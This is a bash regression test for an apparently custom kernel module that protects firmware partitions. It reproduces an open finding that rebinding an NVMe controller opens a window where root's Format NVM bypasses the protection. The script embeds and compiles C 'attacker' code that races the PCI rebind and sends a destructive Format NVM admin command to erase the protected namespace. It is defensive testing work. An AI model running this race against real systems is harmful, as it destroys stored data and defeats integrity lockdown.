#!/bin/bash
# SPDX-License-Identifier: GPL-2.0-only
# Open finding: a controller of a protected NVMe namespace that is unbound
# and bound again (or removed and rescanned) is a new nvme_ctrl with a new
# admin queue. The request gate judges an admin queue only once a queue of
# the same controller is in its table, and the new controller's queues
# enter it only when its namespace (multipath: its path disk) is added by
# the scan work, after the controller went live. /dev/nvmeN opens as soon
# as the controller is live, and its admin commands have no entry hook, so
# in that window root's Format NVM reaches the device and erases the
# namespace: both slots, the last good one included.
#
# One -kernel guest, the shared namespace behind two controllers of one
# subsystem (FWGUARD_NVME_PATHS=2, native multipath): fw_b of the head is
# protected, lockdown=integrity; root unbinds controller 1 from nvme, binds
# it back and sends Format NVM (nsid 1) to the new /dev/nvmeN the moment it
# opens. The same window exists for a plain (single-controller) NVMe disk
# whose controller is rebound: its admin queue is new, and the namespace
# disk is claimed only later.
scenario=$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)/$(basename "${BASH_SOURCE[0]}")
PATTERN=a5

# ---- guest side -------------------------------------------------------------
guest() {
	local out=$1 head="" i part start bdf ctrl n pid
	exec >"$out/guest.log" 2>&1
	set -x
	insmod "$top/build/kmod/$(uname -r)/fwguard.ko" || return 1
	modprobe nvme
	for i in $(seq 600); do
		head=$(ls -d /sys/class/nvme-subsystem/nvme-subsys*/nvme*n1 2>/dev/null | head -1)
		n=$(ls -d /sys/block/nvme*c*n1 2>/dev/null | wc -l)
		[ -n "$head" ] && [ "$n" -eq 2 ] && break
		sleep 0.1
	done
	head=${head##*/}
	[ -n "$head" ] || { echo "no multipath head"; return 1; }
	part=""
	for p in /sys/class/block/"$head"p*; do
		grep -q '^PARTNAME=fw_b$' "$p/uevent" && part=${p##*/}
	done
	[ -n "$part" ] || { echo "no fw_b on $head"; return 1; }
	start=$(cat /sys/class/block/"$part"/start)
	echo "$head $part $start" >"$out/head"
	# Pattern into fw_b's first 4 KiB, then protect fw_b.
	printf "\\x$PATTERN%.0s" $(seq 4096) >/tmp/pattern
	dd if=/tmp/pattern of=/dev/"$head" bs=512 seek="$start" oflag=direct conv=notrunc status=none
	/usr/bin/python3 - "/dev/$part" <<'PY' || return 1
import fcntl, os, struct, sys
st = os.stat(sys.argv[1])
comp = b"bootfw".ljust(32, b"\0")
arg = struct.pack("<IIII32s", 48, 0, os.major(st.st_rdev), os.minor(st.st_rdev), comp)
IOC_PROTECT = (1 << 30) | (48 << 16) | (0xF9 << 8) | 1
fcntl.ioctl(os.open("/dev/fwguard", os.O_RDWR), IOC_PROTECT, arg)
print("protected", sys.argv[1])
PY
	echo integrity >/sys/kernel/security/lockdown
	# The gate holds on the live controllers: Format NVM is refused.
	for c in /sys/class/nvme-subsystem/nvme-subsys*/nvme[0-9]*; do
		ctrl=${c##*/}
		case $ctrl in nvme*n*) continue ;; esac
		"$out/nvme-format" --once "/dev/$ctrl" && echo "format-before $ctrl accepted" >>"$out/result" ||
			echo "format-before $ctrl refused" >>"$out/result"
	done
	# Controller 1 (the second one) is rebound.
	ctrl=$(ls -d /sys/class/nvme-subsystem/nvme-subsys*/nvme[0-9]* | grep -v 'n[0-9]*$' | sed -n 2p)
	ctrl=${ctrl##*/}
	bdf=$(basename "$(readlink /sys/class/nvme/"$ctrl"/device)")
	echo "$bdf" >/sys/bus/pci/drivers/nvme/unbind
	"$out/nvme-format" --pci "$bdf" >>"$out/result" 2>&1
	sleep 2
	dd if=/dev/"$head" bs=512 skip="$start" count=8 iflag=direct status=none | od -An -tx1 -v |
		tr -s ' \n' '\n\n' | grep -v '^$' | sort | uniq -c >"$out/after"
	cat "$out/result" "$out/after"
	dmesg | grep -E 'fwguard|nvme' | tail -40
	return 0
}

# ---- host side --------------------------------------------------------------
attacker_src() {
	cat <<'EOF'
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>
#include <pthread.h>
#include <sys/ioctl.h>
#include <linux/nvme_ioctl.h>

static int format(int fd)
{
	struct nvme_admin_cmd c = { .opcode = 0x80, .nsid = 1, .timeout_ms = 60000 };

	return ioctl(fd, NVME_IOCTL_ADMIN_CMD, &c);
}

static const char *bdf;

/* Bind the PCI function to nvme again, while main() already spins. */
static void *bind(void *arg)
{
	int fd = open("/sys/bus/pci/drivers/nvme/bind", O_WRONLY);

	usleep(100000);
	if (fd < 0 || write(fd, bdf, strlen(bdf)) < 0)
		perror("bind");
	if (fd >= 0)
		close(fd);
	return arg;
}

/*
 * --once NODE: one Format NVM. --pci BDF: bind BDF to nvme and send Format
 * NVM to the first /dev/nvmeN of BDF that opens.
 */
int main(int argc, char **argv)
{
	char path[128], addr[64];
	struct timespec t0, t;
	int fd, r, i, tries = 0;

	if (argc == 3 && !strcmp(argv[1], "--once")) {
		fd = open(argv[2], O_RDONLY);
		if (fd < 0)
			return 2;
		r = format(fd);
		fprintf(stderr, "format on %s: %d (%s)\n", argv[2], r, r < 0 ? strerror(errno) : "status");
		return r == 0 ? 0 : 1;
	}
	pthread_t th;

	bdf = argv[2];
	clock_gettime(CLOCK_MONOTONIC, &t0);
	pthread_create(&th, NULL, bind, NULL);
	for (;;) {
		for (i = 0; i < 16; i++) {
			FILE *f;

			snprintf(path, sizeof(path), "/sys/class/nvme/nvme%d/address", i);
			f = fopen(path, "r");
			if (!f)
				continue;
			addr[0] = 0;
			if (!fgets(addr, sizeof(addr), f))
				addr[0] = 0;
			fclose(f);
			addr[strcspn(addr, "\n")] = 0;
			if (strcmp(addr, argv[2]))
				continue;
			snprintf(path, sizeof(path), "/dev/nvme%d", i);
			fd = open(path, O_RDONLY);
			if (fd < 0)
				continue;
			snprintf(addr, sizeof(addr), "/sys/class/nvme/nvme%d/state", i);
			f = fopen(addr, "r");
			addr[0] = 0;
			if (f) {
				if (!fgets(addr, sizeof(addr), f))
					addr[0] = 0;
				fclose(f);
			}
			addr[strcspn(addr, "\n")] = 0;
			{
				char nsdir[128];
				int has_ns = 0;
				DIR *d;

				/* Its namespace (path disk) shows once added. */
				snprintf(nsdir, sizeof(nsdir), "/sys/class/nvme/nvme%d", i);
				d = opendir(nsdir);
				if (d) {
					struct dirent *e;

					while ((e = readdir(d)))
						has_ns |= !strncmp(e->d_name, "nvme", 4) && strchr(e->d_name + 4, 'n');
					closedir(d);
				}
				r = format(fd);
				printf("format-after-rebind %s %s (state %s, path disk %s, after %d tries): %d %s\n",
				       path, r == 0 ? "accepted" : "refused", addr,
				       has_ns ? "present" : "absent", tries, r, r < 0 ? strerror(errno) : "");
			}
			return 0;
		}
		tries++;
		clock_gettime(CLOCK_MONOTONIC, &t);
		if (t.tv_sec - t0.tv_sec > 120) {
			printf("format-after-rebind none (no controller at %s)\n", argv[2]);
			return 1;
		}
	}
}
EOF
}

main() {
	top=$(cd "$(dirname "$scenario")/../.." && pwd)
	. "$top/tests/lib/common.sh"
	kver=${KVER:-$("$top/tests/kver" "${KERNEL:-6.1}")}
	test_workdir nvme-rebound "$build"
	tap_plan 3
	attacker_src >"$work/nvme-format.c"
	cc -O2 -pthread -o "$work/nvme-format" "$work/nvme-format.c" || { tap_fail "attacker builds"; tap_done; exit; }
	"$top/tests/vm/mkdisk" "$work/nvme.img" 4 6 >/dev/null
	sgdisk -u 1:R -u 2:R -u 3:R "$work/nvme.img" >/dev/null
	FWGUARD_NVME_PATHS=2 "$top/tests/vm/run" --kernel "$kver" --out "$work" --nvme "$work/nvme.img" -- \
		/usr/bin/env E2E_DEVICE=1 /bin/bash "$scenario" --guest "$work" >"$work/vm.log" 2>&1
	rc=$?
	if [ ! -s "$work/result" ]; then
		tap_fail "guest ran" "exit $rc: $(tail -5 "$work/guest.log" 2>/dev/null)"
		tap_done; exit
	fi
	if grep -q "format-before .* accepted" "$work/result"; then
		tap_fail "Format NVM on a live controller of the protected namespace is refused" \
			"$(grep format-before "$work/result" | tr '\n' ' ')"
	else
		tap_ok "Format NVM on a live controller of the protected namespace is refused"
	fi
	if grep -q "format-after-rebind .* accepted" "$work/result"; then
		tap_fail "Format NVM on the rebound controller is refused" \
			"$(grep format-after "$work/result")"
	else
		tap_ok "Format NVM on the rebound controller is refused"
	fi
	if grep -q "4096 $PATTERN\$" "$work/after"; then
		tap_ok "fw_b still holds its bytes"
	else
		tap_fail "fw_b still holds its bytes" "after: $(tr -s ' \n' ' ' <"$work/after")"
	fi
	tap_done
}

if [ "${1:-}" = --guest ]; then
	top=$(cd "$(dirname "$scenario")/../.." && pwd)
	guest "$2"
	exit
fi
[ -n "${E2E_DEVICE:-}" ] || main "$@"
